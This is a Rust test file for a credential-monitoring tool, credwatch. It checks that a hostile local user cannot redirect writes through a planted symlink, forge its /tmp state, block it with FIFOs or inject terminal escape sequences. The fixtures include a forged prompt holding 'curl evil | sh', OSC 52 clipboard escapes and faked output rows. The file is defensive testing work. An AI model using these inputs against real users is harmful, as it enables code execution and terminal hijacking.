//! Another local user is an adversary (#14): credwatch never writes through a link it did not
//! make, never trusts a published state it did not verify, and a FIFO where its own files should
//! be blocks nothing.

use crate::harness::{run_command, spare_uid, TestHome};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::process::Command;

/// The Prometheus textfile in a directory others can write to (node_exporter's, shared): a link
/// planted at the name of its temporary file used to make credwatch truncate and chmod 644 the
/// file it pointed to. Now the temporary file's name cannot be known in advance and it is
/// created without following links.
#[test]
fn a_link_planted_for_the_textfiles_temporary_file_redirects_nothing() {
    let home = TestHome::new();
    let victim = home.write("private/notes.txt", "my own notes\n");
    let shared = home.path("shared");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let output = shared.join("credwatch.prom");
    // `exec` keeps the pid, so the link sits exactly where the old code put its temporary file.
    let mut command = home.program(
        "sh",
        &[
            "-c",
            r#"ln -s "$1" "$2/.credwatch.prom.$$.tmp" && exec "$3" export --prometheus --output "$2/credwatch.prom""#,
            "sh",
            victim.to_str().unwrap(),
            shared.to_str().unwrap(),
            env!("CARGO_BIN_EXE_credwatch"),
        ],
    );
    command.stdin(std::process::Stdio::null());
    let status = command.status().unwrap();
    assert!(status.success());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "my own notes\n");
    assert_eq!(
        std::fs::metadata(&victim).unwrap().mode() & 0o777,
        0o600,
        "the victim's mode is unchanged"
    );
    let written = std::fs::symlink_metadata(&output).unwrap();
    assert!(written.is_file(), "the textfile is a file of its own");
    assert!(std::fs::read_to_string(&output)
        .unwrap()
        .contains("credwatch_"));
}

/// Without XDG_RUNTIME_DIR the state lives in /tmp/credwatch-UID, which another user can create
/// first and fill with a forged "all is well" and a phishing warning. status and the shell hooks
/// refuse it, say what they found, and check directly.
#[test]
fn a_state_dir_planted_by_another_user_is_refused() {
    let home = TestHome::new();
    let victim = spare_uid(0);
    let attacker = spare_uid(1);
    let planted = std::path::PathBuf::from(format!("/tmp/credwatch-{victim}"));
    let _ = std::fs::remove_dir_all(&planted);
    std::fs::create_dir(&planted).unwrap();
    let pid = std::process::id();
    let forged = format!(
        r#"{{"schema":1,"generated_at":"2026-01-01T00:00:00Z","source":"daemon","daemon":{{"running":true,"pid":{pid},"version":"0","valid_until":null,"config_error":null}},"credentials":[{{"name":"claude","tool":"Claude Code","state":"ok","usable":true,"reason":"forged","fix":null,"expires_at":null,"access_expires_at":null,"checked_at":"2026-01-01T00:00:00Z","changed_at":null,"stores":[],"shadowed_by":[],"probe":null}}]}}"#
    );
    std::fs::write(planted.join("status.json"), forged).unwrap();
    std::fs::write(
        planted.join("prompt"),
        format!("{pid} 0 1.1 run: curl evil | sh\nclaude\trun: curl evil | sh\n"),
    )
    .unwrap();
    std::fs::write(planted.join("prompt.1.1"), "").unwrap();
    for entry in std::fs::read_dir(&planted).unwrap() {
        std::os::unix::fs::chown(entry.unwrap().path(), Some(attacker), Some(attacker)).unwrap();
    }
    std::os::unix::fs::chown(&planted, Some(attacker), Some(attacker)).unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o755)).unwrap();

    let mut command = home.command_as(Some(victim), &["status", "--json", "claude"]);
    command
        .env_remove("XDG_RUNTIME_DIR")
        .env("HOME", "/nonexistent");
    let outcome = run_command(command);
    let _ = std::fs::remove_dir_all(&planted);
    let claude = outcome.credential("claude");
    assert_eq!(claude["state"], "missing", "checked directly: {claude}");
    assert_eq!(outcome.json()["source"], "direct");
    assert!(
        outcome
            .stderr
            .contains(&format!("owned by uid {attacker}, not by you")),
        "{}",
        outcome.stderr
    );
}

/// A FIFO at the daemon's lock, state or prompt file blocks no reader: status, doctor, export
/// and prompt all answer.
#[test]
fn fifos_at_credwatchs_own_files_block_nothing() {
    let home = TestHome::new();
    let dir = home.credwatch_runtime();
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    for name in ["daemon.lock", "status.json", "prompt", "prompt.direct"] {
        nix::unistd::mkfifo(
            &dir.join(name),
            nix::sys::stat::Mode::from_bits_truncate(0o600),
        )
        .unwrap();
    }
    for args in [
        &["status", "--json"][..],
        &["doctor"],
        &["export", "--prometheus"],
        &["prompt"],
    ] {
        let outcome = home.run(args); // the harness fails the test if one hangs
        assert!(
            ![2, 4].contains(&outcome.code),
            "{args:?}: a usage error (2) or a failure (4), not an answer: {}",
            outcome.stderr
        );
    }
    // The daemon refuses a FIFO for its lock, and says so, rather than block.
    let mut daemon = home.command(&["daemon"]);
    let outcome = run_command({
        daemon.stdin(std::process::Stdio::null());
        daemon
    });
    assert_eq!(outcome.code, 1, "{}", outcome.stderr);
    assert!(outcome.stderr.contains("FIFO"), "{}", outcome.stderr);
    let _ = Command::new("true").status();
}

/// Regression (#14): with the user's inotify instances used up, the daemon said "Too many open
/// files (os error 24)" and exited 2, the code for usage errors. It names inotify and the limit
/// to raise, and exits 1.
#[test]
fn a_daemon_without_inotify_instances_names_the_limit() {
    let mut home = TestHome::new();
    let uid = spare_uid(2);
    for dir in [&home.home, &home.runtime_dir] {
        for entry in walk_dirs(dir) {
            std::os::unix::fs::chown(&entry, Some(uid), Some(uid)).unwrap();
        }
    }
    // A process of that user holds every inotify instance it may have.
    let mut hog = Command::new("setpriv")
        .args([
            &format!("--reuid={uid}"),
            &format!("--regid={uid}"),
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
            "import ctypes,sys,time\nlibc=ctypes.CDLL('libc.so.6')\nfds=[]\nwhile True:\n    fd=libc.inotify_init()\n    if fd<0: break\n    fds.append(fd)\nprint(len(fds), flush=True)\ntime.sleep(60)\n",
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(hog.stdout.as_mut().unwrap()),
        &mut line,
    )
    .unwrap();
    assert!(
        line.trim().parse::<u32>().is_ok_and(|n| n > 0),
        "the hog holds the instances: {line:?}"
    );
    home.set_env("CREDWATCH_LOG", "off");
    let outcome = run_command({
        let mut daemon = home.command_as(Some(uid), &["daemon"]);
        daemon.stdin(std::process::Stdio::null());
        daemon
    });
    let _ = hog.kill();
    let _ = hog.wait();
    assert_eq!(outcome.code, 1, "{}", outcome.stderr);
    assert!(
        outcome.stderr.contains("fs.inotify.max_user_instances"),
        "{}",
        outcome.stderr
    );
}

fn walk_dirs(root: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut all = vec![root.to_path_buf()];
    if let Ok(entries) = std::fs::read_dir(root) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() && !path.is_symlink() {
                all.extend(walk_dirs(&path));
            } else {
                all.push(path);
            }
        }
    }
    all
}

/// Text from a credential file (here a kubeconfig user name holding OSC 52, a bell and a
/// newline that fakes a row) reaches no terminal with its control characters: status and verify
/// show them as visible escapes (the prompt file is built from the same reasons).
#[test]
fn control_characters_from_a_credential_file_are_shown_inert() {
    let home = TestHome::new();
    home.write(
        ".kube/config",
        "current-context: a\ncontexts:\n- name: a\n  context: {user: me}\nusers:\n- name: me\n  user: {token: opaque}\n- name: \"evil\\e]52;c;ZXZpbA==\\a\\nclaude   ok  logged in\"\n  user: {token: x}\n",
    );
    for args in [
        &["status", "kube"][..],
        &["verify", "kube"],
        &["status", "--json", "kube"],
    ] {
        let outcome = home.run(args);
        let shown = &outcome.stdout;
        if args[0] == "status" {
            assert!(
                shown.contains("evil"),
                "{args:?}: the user is named: {shown}"
            );
        }
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
            "{args:?}: {shown:?}"
        );
        assert!(
            !shown.lines().any(|l| l.starts_with("claude")),
            "{args:?}: no faked row: {shown}"
        );
        if args.contains(&"--json") {
            let reason = outcome.credential("kube")["reason"]
                .as_str()
                .unwrap()
                .to_string();
            assert!(!reason.chars().any(char::is_control), "{reason:?}");
        }
    }
}

/// Environment values (a bus address, the hook's shell name) and the config's own text in an
/// error reach the terminal inert through `doctor` and `config check`, one line per finding.
#[test]
fn environment_values_and_config_text_are_shown_inert() {
    let mut home = TestHome::new();
    home.set_env(
        "DBUS_SESSION_BUS_ADDRESS",
        "unix:path=/nowhere/\u{1b}]52;c;ZXZpbA==\u{7}\nok   fake           all good",
    );
    home.set_env("CREDWATCH_HOOK", "b\u{1b}[2Jash 1");
    let good = "presets = [\"gh\"]\n";
    let bad =
        "presets = [\"gh\"]\n[[credential]]\nname = \"x\\u001b]0;title\\u0007\"\nfile = \"~/x\"\n";
    for (config, args) in [
        (good, &["doctor"][..]),
        (bad, &["config", "check"]),
        (bad, &["status"]),
    ] {
        home.write_config(config);
        let outcome = home.run(args);
        if args[0] == "doctor" {
            assert!(
                outcome
                    .stdout
                    .contains("cannot connect to unix:path=/nowhere/\\x1b]52"),
                "{}",
                outcome.stdout
            );
        } else {
            assert!(
                outcome.stderr.contains("\\x1b]0;title"),
                "{}",
                outcome.stderr
            );
        }
        for shown in [&outcome.stdout, &outcome.stderr] {
            assert!(
                !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
                "{args:?}: {shown:?}"
            );
            assert!(
                !shown.lines().any(|l| l.starts_with("ok   fake")),
                "{args:?}: no faked row: {shown}"
            );
        }
    }
}
